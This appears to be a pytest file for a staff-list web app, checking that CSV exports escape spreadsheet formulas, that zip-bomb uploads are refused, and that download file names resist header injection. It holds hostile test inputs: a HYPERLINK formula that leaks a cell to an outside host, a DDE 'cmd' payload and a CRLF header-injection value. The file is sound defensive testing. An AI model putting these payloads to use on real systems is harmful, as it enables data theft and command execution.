"""The staff list on the web: hostile uploads refused, exports and downloads that stay safe."""

from __future__ import annotations

import csv
import io
import time
from urllib.parse import quote, unquote

from httpx2 import Response
from sqlmodel import select

from tests.test_staff_list_inputs import bomb_workbook, empty_rows
from tests.web_fixtures import Browser, WebEnv
from transfer_engine.store.database import read_session, write_session
from transfer_engine.store.people import Employee

HEADER = "employee_ref,full_name,role,fte,weekly_pay,email,date_of_birth,in_scope,objected_on\n"


def _upload(browser: Browser, web: WebEnv, name: str, data: bytes) -> Response:
    """Upload as the whole staff list and confirm it on its check page. Returns the page the
    person sees last: the Employees page (imported, or the refused upload with its errors)."""
    ld = web.ids["ld-to-nct"]
    form = {"csrf_token": browser.token("/account"), "version": web.version("ld-to-nct"),
            "mode": "replace"}
    page = browser.follow(browser.client.post(
        f"/transfers/{ld}/employees/upload", data=form,
        files={"file": (name, data, "application/octet-stream")}))
    if "Check the staff list before importing it" not in page.text:
        return page
    action = page.text.split('<form method="post" action="')[-1].split('"')[0]
    version = page.text.split('name="version" value="')[-1].split('"')[0]
    return browser.follow(browser.post(action, {"version": version}))


def _refs(web: WebEnv) -> list[str]:
    with read_session(web.engine) as session:
        return sorted(e.employee_ref for e in session.exec(select(Employee).where(
            Employee.transfer_id == web.ids["ld-to-nct"])).all())


def test_formulas_typed_in_the_hr_export_are_text_in_the_eli_csv(web: WebEnv) -> None:
    officer = web.as_role("hr_officer")
    staff = (HEADER
             + 'E001,"=HYPERLINK(""http://example.org/?leak=""&A1,""Click"")",Officer,1,500,,,yes,\n'
             + "E002,\"=cmd|' /C calc'!A0\",Officer,1,500,,,yes,\n"
             + "E003,+44 20 7946 0000,-Officer,1,500,,,yes,\n"
             + "E004,@SUM(A1:A9),\tOfficer,1,500,,,yes,\n"
             + "E005,Sample Person,Case Officer,1,500,,,yes,\n")
    assert "Imported staff.csv: 5 added" in _upload(officer, web, "staff.csv", staff.encode()).text
    response = officer.get(f"/transfers/{web.ids['ld-to-nct']}/employees/eli.csv")
    rows = {row["employee_ref"]: row for row in csv.DictReader(io.StringIO(response.text))}
    assert rows["E001"]["full_name"] == \
        "'=HYPERLINK(\"http://example.org/?leak=\"&A1,\"Click\")"
    assert rows["E002"]["full_name"] == "'=cmd|' /C calc'!A0"
    assert rows["E003"]["full_name"] == "'+44 20 7946 0000"
    assert rows["E003"]["role"] == "'-Officer"
    assert rows["E004"]["full_name"] == "'@SUM(A1:A9)"
    assert rows["E005"]["full_name"] == "Sample Person"  # ordinary text is untouched
    # No cell of the export starts with what a spreadsheet would run.
    for row in csv.reader(io.StringIO(response.text)):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_a_zip_bomb_upload_is_refused_quickly_and_saves_nothing(web: WebEnv) -> None:
    officer = web.as_role("hr_officer")
    before = _refs(web)
    bomb = bomb_workbook(empty_rows(10_000_000))  # made before the clock starts
    started = time.monotonic()
    response = _upload(officer, web, "staff.xlsx", bomb)
    assert time.monotonic() - started < 10
    assert "There is a problem" in response.text
    assert "xlsx unpacks to 57 MB; a staff list workbook can unpack to at most 25 MB" \
        in response.text
    response = _upload(officer, web, "staff.xlsx", bomb_workbook(empty_rows(3_000_000)))
    assert "There is a problem" in response.text
    assert "has more than 10,000 rows under the header" in response.text
    assert _refs(web) == before


def test_the_upload_page_states_the_limits(web: WebEnv) -> None:
    page = web.as_role("hr_officer").get(f"/transfers/{web.ids['ld-to-nct']}/employees").text
    assert "The file can be at most 5 MB, 10,000 rows and 40 columns" in page


def test_downloads_name_files_safely_whatever_the_reference_holds(web: WebEnv) -> None:
    # References stored before they were checked: a quote, a line break, a Welsh name.
    officer = web.as_role("hr_officer")
    ld = web.ids["ld-to-nct"]
    odd = 'LD-Siân "1"\r\nX-Injected: yes'
    with write_session(web.engine) as session:
        employee = session.exec(select(Employee).where(
            Employee.transfer_id == ld, Employee.employee_ref == "LD-001")).one()
        employee.employee_ref = odd
        session.add(employee)
    response = officer.get(f"/transfers/{ld}/letters/employee-notification/pdf?"
                           f"to={quote('employee:' + odd)}")
    assert response.status_code == 200 and response.content.startswith(b"%PDF")
    assert "x-injected" not in response.headers
    disposition = response.headers["content-disposition"]
    assert disposition.isascii() and "\r" not in disposition and "\n" not in disposition
    kind, plain, encoded = (part.strip() for part in disposition.split(";"))
    assert kind == "attachment"
    assert plain.startswith('filename="') and plain.count('"') == 2
    assert "employee-LD-Sian_1_" in plain and plain.endswith('.pdf"')  # ASCII, no quote
    assert encoded.startswith("filename*=UTF-8''")
    # What the browser saves: the name as it is, the line break made harmless.
    saved = unquote(encoded.removeprefix("filename*=UTF-8''"))
    assert 'employee-LD-Siân "1"--X-Injected' in saved and saved.endswith(".pdf")


def test_the_eli_download_has_both_file_names(web: WebEnv) -> None:
    response = web.as_role("hr_officer").get(
        f"/transfers/{web.ids['ld-to-nct']}/employees/eli.csv")
    assert response.headers["content-disposition"] == (
        "attachment; filename=\"eli-ld-to-nct.csv\"; filename*=UTF-8''eli-ld-to-nct.csv")
